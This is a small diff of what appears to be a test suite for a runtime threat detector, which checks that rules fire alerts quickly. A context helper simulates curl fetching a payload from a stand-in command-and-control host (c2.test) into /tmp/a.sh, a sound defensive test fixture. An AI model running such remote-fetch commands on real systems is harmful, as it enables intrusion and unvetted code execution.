@@ -115,7 +115,7 @@ def deletes(target, where=Scene.script):
     return play
 
 
-def downloads(runs, path="/tmp/a.sh"):  # noqa: S108
+def downloads(runs, path="/tmp/a.sh"):
     def play(scene):
         node = scene.script()
         scene.run("/usr/bin/curl", "curl", "-so", path, "https://c2.test/a", parent=node)
@@ -309,7 +309,7 @@ def test_it_alarms(rule, severity, play):
     assert not scene.watcher.gaps
     alert = next(one for one in scene.alerts if one.finding.rule == f"run/{rule}")
     assert alert.chain
-    assert alert.told - alert.at < 400 or rule in ("outlives-installer",)
+    assert alert.told - alert.at < 400 or rule == "outlives-installer"
 
 
 @pytest.mark.parametrize(("rule", "play"), GOOD, ids=[f"{row[0]}-{n}" for n, row in enumerate(GOOD)])
